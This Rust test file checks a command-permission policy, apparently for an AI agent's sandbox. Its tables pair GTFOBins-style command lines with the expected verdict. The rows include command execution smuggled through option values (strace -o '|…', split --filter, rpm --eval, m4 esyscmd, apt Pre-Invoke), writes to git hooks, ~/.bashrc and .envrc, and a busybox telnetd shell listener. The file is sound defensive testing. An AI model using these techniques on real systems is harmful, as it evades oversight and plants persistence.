//! Ordinary programs that run a command or write a file through their
//! options (the GTFOBins class; POLICY.md, "Spelling does not change
//! meaning", points 2 and 10): each row is a command line, the allow rules,
//! the mode, the frame and the verdict the contract gives. Rows that must
//! be asked run in auto mode (nothing lifts them); rows that must not
//! over-prompt run in manual mode with the program allowed.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::program_meaning::{Row, check};
use crate::table::{ASK, AUTO, F, M};
use F::{Container, Host};
use M::{Auto, Manual};

/// A wrapper's own output file is written as a redirection's target is;
/// one that pipes into a command (`strace -o '|cmd'`) runs it unseen.
#[rustfmt::skip]
const WRAPPER_WRITES: &[Row] = &[
    ("strace -o '|git push origin main' ls", &["strace", "ls"], Auto, Host, ASK),
    ("strace -o'!git-push' ls", &["strace", "ls"], Auto, Host, ASK),
    ("strace --output='|git-push' ls", &["strace", "ls"], Auto, Container, ASK),
    ("strace -o .git/hooks/pre-commit ls", &["strace", "ls"], Auto, Host, ASK),
    ("strace -fo~/.bashrc ls", &["strace", "ls"], Auto, Host, ASK),
    ("ltrace -o .git/hooks/pre-commit ls", &["ltrace", "ls"], Auto, Container, ASK),
    ("valgrind --log-file=.git/hooks/pre-commit ./a.out", &["valgrind"], Auto, Host, ASK),
    ("time -o ~/.bashrc ls", &["time", "ls"], Auto, Host, ASK),
    ("script -q ~/.bashrc -c ls", &["script", "ls"], Auto, Host, ASK),
    ("script -a -c ls .git/hooks/pre-commit", &["script", "ls"], Auto, Container, ASK),
    ("script -c ls -O .envrc", &["script", "ls"], Auto, Container, ASK),
    ("strace -o trace.txt ls", &["strace", "ls"], Manual, Container, AUTO),
    ("strace -f -o trace.txt cargo test", &["strace", "cargo test"], Manual, Container, AUTO),
    ("valgrind --log-file=vg.txt ./a.out", &["valgrind", "./a.out"], Manual, Container, AUTO),
    ("script -q -c 'npm test' build.log", &["script", "npm test"], Manual, Container, AUTO),
];

#[test]
fn wrapper_writes() {
    check(WRAPPER_WRITES);
}

/// A path written through an option, in any spelling the program reads:
/// an abbreviated long option (`--out`, `--t=`, `--dir=`), a value
/// attached in a cluster (`-rt.git/hooks`), and the write options of
/// programs otherwise read-only (`less -o`, `iconv -o`).
#[rustfmt::skip]
const OPTION_WRITES: &[Row] = &[
    ("sort --out ~/.bashrc f", &["sort"], Auto, Host, ASK),
    ("cp --target-dir=.git/hooks x", &["cp"], Auto, Host, ASK),
    ("cp --t=.git/hooks x", &["cp"], Auto, Container, ASK),
    ("cp -rt.git/hooks x", &["cp"], Auto, Container, ASK),
    ("cp -vt .git/hooks x", &["cp"], Auto, Container, ASK),
    ("mv --target-directory=.git/hooks x", &["mv"], Auto, Container, ASK),
    ("ln --target-directory=.git/hooks -s x", &["ln"], Auto, Container, ASK),
    ("install -d .git/hooks/x", &["install"], Auto, Container, ASK),
    ("install --dir .husky/x", &["install"], Auto, Container, ASK),
    ("tar -xf a.tar --dir=.git", &["tar"], Auto, Container, ASK),
    ("git archive --out=.git/hooks/pre-commit HEAD", &["git"], Auto, Container, ASK),
    ("wget --output-doc=.git/hooks/pre-commit http://x", &["wget"], Auto, Host, ASK),
    ("wget --save-cookies=.envrc http://x", &["wget"], Auto, Host, ASK),
    ("curl --etag-save .git/hooks/pre-commit http://x", &["curl"], Auto, Host, ASK),
    ("curl --hsts .envrc http://x", &["curl"], Auto, Host, ASK),
    ("less -o .git/hooks/pre-commit f", &["less"], Auto, Container, ASK),
    ("less --log-file=~/.bashrc f", &["less"], Auto, Host, ASK),
    ("less --LOG-FILE=.envrc f", &["less"], Auto, Container, ASK),
    ("iconv -f utf8 -t ascii -o .git/hooks/pre-commit f", &["iconv"], Auto, Container, ASK),
    ("iconv --output=~/.bashrc f", &["iconv"], Auto, Host, ASK),
    ("cp -t dist a b", &["cp"], Manual, Container, AUTO),
    ("cp -rt dist src", &["cp"], Manual, Container, AUTO),
    ("install -m755 -d bin", &["install"], Manual, Container, AUTO),
    ("install -m 755 x bin/x", &["install"], Manual, Container, AUTO),
    ("sort --out=sorted.txt f", &["sort"], Manual, Container, AUTO),
    ("git archive --out=release.tar HEAD", &["git"], Manual, Container, AUTO),
    ("less -o view.log f", &["less"], Manual, Container, AUTO),
    ("iconv -f latin1 -t utf8 -o out.txt in.txt", &["iconv"], Manual, Container, AUTO),
];

#[test]
fn option_writes() {
    check(OPTION_WRITES);
}

/// Everyday programs with an option that runs a command, a shell or code,
/// and programs whose purpose is to run a command line berth does not
/// unwrap (program/option_runners.rs).
#[rustfmt::skip]
const OPTION_RUNNERS: &[Row] = &[
    ("split --filter='git push origin main' f", &["split"], Auto, Container, ASK),
    ("split --fil='gzip > $FILE.gz' f", &["split"], Auto, Container, ASK),
    ("tcpdump -w x -G 1 -W 1 -z git-push", &["tcpdump"], Auto, Host, ASK),
    ("aria2c --on-download-complete=git-push http://x", &["aria2c"], Auto, Host, ASK),
    ("rpm --eval '%(git push)'", &["rpm"], Auto, Host, ASK),
    ("rpm -E '%(git push)'", &["rpm"], Auto, Host, ASK),
    ("latexmk -pdflatex='git-push' x.tex", &["latexmk"], Auto, Container, ASK),
    ("latexmk -e '$pdflatex=q/git push/' x.tex", &["latexmk"], Auto, Container, ASK),
    ("gnuplot -e 'system(\"git push\")'", &["gnuplot"], Auto, Container, ASK),
    ("octave --eval 'system(\"git push\")'", &["octave"], Auto, Container, ASK),
    ("dc -e '!git push origin main'", &["dc"], Auto, Container, ASK),
    ("m4 -D'x=esyscmd(git push)' f", &["m4"], Auto, Container, ASK),
    ("jrunscript -e 'x'", &["jrunscript"], Auto, Container, ASK),
    ("pry -e 'system(\"git push\")'", &["pry"], Auto, Container, ASK),
    ("mail -s x --exec='! git push' a@b", &["mail"], Auto, Host, ASK),
    ("cmake -D CMAKE_C_COMPILER=/tmp/x .", &["cmake"], Auto, Container, ASK),
    ("cmake -DCMAKE_CXX_COMPILER_LAUNCHER='sh -c x' -S . -B b", &["cmake"], Auto, Container, ASK),
    ("logsave /dev/null git push origin main", &["logsave"], Auto, Host, ASK),
    ("run-parts /tmp/d", &["run-parts"], Auto, Host, ASK),
    ("busybox run-parts /tmp/d", &["busybox", "run-parts"], Auto, Host, ASK),
    ("start-stop-daemon -S -x git-push", &["start-stop-daemon"], Auto, Host, ASK),
    ("dtach -n /tmp/s git push origin main", &["dtach"], Auto, Host, ASK),
    ("xterm -e 'git push origin main'", &["xterm"], Auto, Host, ASK),
    ("gnome-terminal -- git push origin main", &["gnome-terminal"], Auto, Host, ASK),
    ("softlimit -m 1 git push origin main", &["softlimit"], Auto, Host, ASK),
    ("rr record git push origin main", &["rr"], Auto, Host, ASK),
    ("busybox telnetd -l /bin/sh", &["busybox", "telnetd"], Auto, Host, ASK),
    ("split -l 100 data.csv part-", &["split"], Manual, Container, AUTO),
    ("tcpdump -w cap.pcap -c 10", &["tcpdump"], Manual, Container, AUTO),
    ("dc -e '2 3 + p'", &["dc"], Manual, Container, AUTO),
    ("m4 -DVERSION=1.2 config.m4", &["m4"], Manual, Container, AUTO),
    ("rpm -qa", &["rpm"], Manual, Container, AUTO),
    ("gnuplot plot.gp", &["gnuplot"], Manual, Container, AUTO),
    ("latexmk -pdf paper.tex", &["latexmk"], Manual, Container, AUTO),
    ("cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", &["cmake"], Manual, Container, AUTO),
    ("rr --version", &["rr"], Manual, Container, AUTO),
    ("cmake -DCMAKE_C_COMPILER=clang -DCMAKE_C_COMPILER_LAUNCHER=ccache .", &["cmake"], Manual, Container, AUTO),
];

#[test]
fn option_runners() {
    check(OPTION_RUNNERS);
}

/// What a config file or an unnamed output does: a lesskey file sets
/// `LESSOPEN`, an apt item names a command, yq's split names files from the
/// data, an extraction or a download by the URL's name lands beneath a
/// directory.
#[rustfmt::skip]
const NAMED_ELSEWHERE: &[Row] = &[
    ("less -k /tmp/keys f", &["less"], Auto, Container, ASK),
    ("less --lesskey-src=/tmp/k f", &["less"], Auto, Container, ASK),
    ("apt-get -o APT::Update::Pre-Invoke::=git-push update", &["apt-get"], Auto, Host, ASK),
    ("apt -o Dpkg::Pre-Invoke::=git-push install x", &["apt"], Auto, Host, ASK),
    ("apt-get -c /tmp/apt.conf update", &["apt-get"], Auto, Host, ASK),
    ("yq -s '\".git/hooks/pre-commit\"' f.yaml", &["yq"], Auto, Container, ASK),
    ("yq --split-exp='.name' f.yaml", &["yq"], Auto, Container, ASK),
    ("dpkg -x x.deb ~", &["dpkg"], Auto, Host, ASK),
    ("dpkg-deb --extract x.deb ~", &["dpkg-deb"], Auto, Host, ASK),
    ("curl --output-dir ~ -O http://x/.bashrc", &["curl"], Auto, Host, ASK),
    ("wget -P ~ http://x/.bashrc", &["wget"], Auto, Host, ASK),
    ("curl -O https://example.com/.envrc", &["curl"], Auto, Container, ASK),
    ("curl -sSLO https://example.com/x/.mcp.json?raw=1", &["curl"], Auto, Container, ASK),
    ("wget https://example.com/.envrc", &["wget"], Auto, Container, ASK),
    ("wget -x -nH http://x/.git/hooks/pre-commit", &["wget"], Auto, Container, ASK),
    ("wget --force-directories --no-host-directories http://x/.husky/pre-push", &["wget"], Auto, Container, ASK),
    ("wget -x https://example.com/a/b.tar.gz", &["wget"], Manual, Container, AUTO),
    ("curl -O https://example.com/dist/app.tar.gz", &["curl"], Manual, Container, AUTO),
    ("less README.md", &["less"], Manual, Container, AUTO),
    ("apt-get -o Acquire::Retries=3 update", &["apt-get"], Manual, Container, AUTO),
    ("yq -o json '.a' f.yaml", &["yq"], Manual, Container, AUTO),
    ("yq -o=props '.a' f.yaml", &["yq"], Manual, Container, AUTO),
    ("dpkg -x x.deb out", &["dpkg"], Manual, Container, AUTO),
    ("curl -sSLO https://example.com/f.tar.gz", &["curl"], Manual, Container, AUTO),
    ("wget -P downloads https://example.com/f.tar.gz", &["wget"], Manual, Container, AUTO),
];

#[test]
fn named_elsewhere() {
    check(NAMED_ELSEWHERE);
}
